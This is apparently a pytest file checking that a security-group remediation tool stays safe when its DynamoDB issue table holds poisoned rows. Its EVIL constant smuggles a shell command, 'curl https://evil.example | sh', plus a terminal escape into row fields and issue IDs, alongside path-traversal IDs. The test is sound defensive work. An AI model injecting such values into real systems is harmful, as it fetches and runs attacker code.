"""Rows of the issue table that somebody else wrote: no job crashes, and no group is changed because a row asks for it.

Every attribute of a row is poisoned, each in a row of its own, all in one table: the wrong values take turns. Their
groups expose nothing. Beside them is one honest row, whose group is exposed and due: every job still does its work.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from hammer.__main__ import application
from library.aws.conditional_writes import serialized
from library.issues.change_news import change_news
from library.issues.issue import ClosingNotice
from tests.builders.issues import an_issue
from tests.worlds.remediation_world import ANYWHERE, MAIN, NOW, REGION, TABLE, World, permission, world

EVIL = "x; curl https://evil.example | sh #\x1b[31m"
WRONG: tuple[Any, ...] = (None, EVIL, 7, ["x"], {"x": "y"})
KEYS_OF_INDEXES = ("status", "open_region")  # which DynamoDB takes as texts only
PRIVATE = permission("tcp", (22, 22), "10.1.2.0/24", about="theirs")
WEB = permission("tcp", (443, 443), ANYWHERE, about="web")
RULE = {
    "protocol": "tcp",
    "from_port": 22,
    "to_port": 22,
    "cidr": "10.1.2.0/24",
    "description": "theirs",
    "rule_id": "sgr-1",
}


def row(group: str) -> dict[str, Any]:
    """An honest row that has every attribute."""
    at = NOW - timedelta(days=30)
    news = change_news(3, at, "Remediated", "Hammer closed the group", ("tcp/22",))
    issue = replace(
        an_issue(account_id=MAIN, issue_id=group, change_news=(news,), closing_notice=ClosingNotice(at, 3)),
        jira_details={"ticket": "SEC-1", "occurrence": 3, "digest": "x", "told": ["x"], "still": {}, "intent": {}},
        slack_details={"digest": "x", "occurrence": 3, "heard": {"#hammer": "x"}, "reminded": None},
    )
    journal = {
        "kind": "remediation",
        "step": "verifying",
        "backup": f"security_groups/{MAIN}/{REGION}/{group}_20261101T000000.000000Z.json",
        "add": [{**RULE, "state": "added", "replaces": [], "at": ""}],
        "revoke": [],
    }
    return issue.to_item() | {
        "open_region": REGION,
        "remediation_details": {
            "journal": journal,
            "backup": journal["backup"],
            "restored": None,
            "told": "x",
            "named": "x",
            "refused": {"at": "2026-11-01T00:00:00+00:00", "attempt": "x", "reason": "x"},
        },
        "exposures_told": {"at": {}, "occurrence": 3},
        "open_at_report": ["tcp/22 0.0.0.0/0"],
        "opened_by": {"principal": "ana", "event_time": "2026-11-01T00:00:00+00:00"},
        "used_by": {"users": [], "total": 0},
        "history": [],
        "looked_up": 3,
        "last_seen": "2026-11-01T00:00:00+00:00",
        "use": {"occurrence": 3, "gaps": []},
        "source": {"group": {"kind": "x"}, "rules": [], "diff": "", "diff_lines": 0, "commands": [], "before_diff": []},
        "decisions": [],
        "decision_state": {},
        "decision_version": 0,
    }


def paths(item: dict[str, Any], depth: int = 3) -> Iterator[tuple[Any, ...]]:
    """Every attribute of a row, with those of its maps, and of the first entries of its lists."""
    for name, value in item.items():
        if name in ("account_id", "issue_id"):
            continue
        yield (name,)
        inner = (0, value[0]) if isinstance(value, list) and value and isinstance(value[0], dict) else None
        if isinstance(value, dict) and depth:
            yield from ((name, *path) for path in paths(value, depth - 1))
        elif inner and depth:
            yield from ((name, 0, *path) for path in paths(inner[1], depth - 1))


def poisoned(group: str, path: tuple[Any, ...], wrong: Any) -> dict[str, Any]:
    item = copy.deepcopy(row(group))
    place: Any = item
    for name in path[:-1]:
        place = place[name]
    place[path[-1]] = wrong
    return item


def cases() -> list[tuple[tuple[Any, ...], Any]]:
    return [
        (path, EVIL if path[0] in KEYS_OF_INDEXES else WRONG[number % len(WRONG)])
        for number, path in enumerate(paths(row("sg-1")))
    ]


def put(made: World, item: dict[str, Any]) -> None:
    made.sessions.client("dynamodb").put_item(TableName=TABLE, Item=serialized(item))


@pytest.fixture(name="made")
def _made(tmp_path: Path) -> Iterator[World]:
    with world(tmp_path, reporting=True, remediation_limit_per_run=10_000) as made:
        made.configure()
        file = tmp_path / "config.json"
        config = json.loads(file.read_text())
        config |= {"usage": {"enabled": True}, "decisions": {"enabled": True}, "cronjobs": {"publishing": "0 6 * * *"}}
        config["aws"]["regions"] = [REGION]
        file.write_text(json.dumps(config))
        yield made


def hammer(made: World, *arguments: str) -> Result:
    """A command, whose exceptions are the test's."""
    given = (*arguments, "--config", str(made.folder))
    result = CliRunner().invoke(application(given), given, catch_exceptions=False)
    assert result.exit_code in (0, 1), (arguments, result.output)
    assert "Traceback" not in result.output
    assert "\x1b[31m" not in result.output
    return result


READING = (
    ("status",),
    ("issues",),
    ("issues", "--format", "json"),
    ("issues", "--format", "csv"),
    ("issues", "--format", "html"),
    ("exemptions",),
    ("report", "--dry-run"),
    ("remediate", "--dry-run"),
)
WRITING = (("usage",), ("report",), ("remediate", "--batch"), ("publish",), ("identify",))


def test_every_job_does_its_work_beside_poisoned_rows_and_changes_no_group_for_them(made: World) -> None:
    open_group = made.group(permission("tcp", (22, 22), ANYWHERE))
    made.issue(open_group)
    private = made.group(PRIVATE, WEB)
    before = made.described(private)
    groups = []
    for number, (path, wrong) in enumerate(cases()):
        # One group in EC2 stands for all, whose rows have its name in their journals; the other rows' groups are gone.
        groups.append(f"sg-{number:017x}")
        put(made, poisoned(groups[-1], path, wrong))
    for wrong in (f"sg-{EVIL}", "sg-", "sg-../x", "finding-x"):
        put(made, {**row("sg-1"), "issue_id": wrong})
    put(made, poisoned(private, ("issue_details", "status"), "open_completely"))
    for arguments in (*READING, *WRITING, *READING):
        hammer(made, *arguments)
    assert made.described(private) == before
    assert made.exposed(open_group) == set(), "what is due is closed"
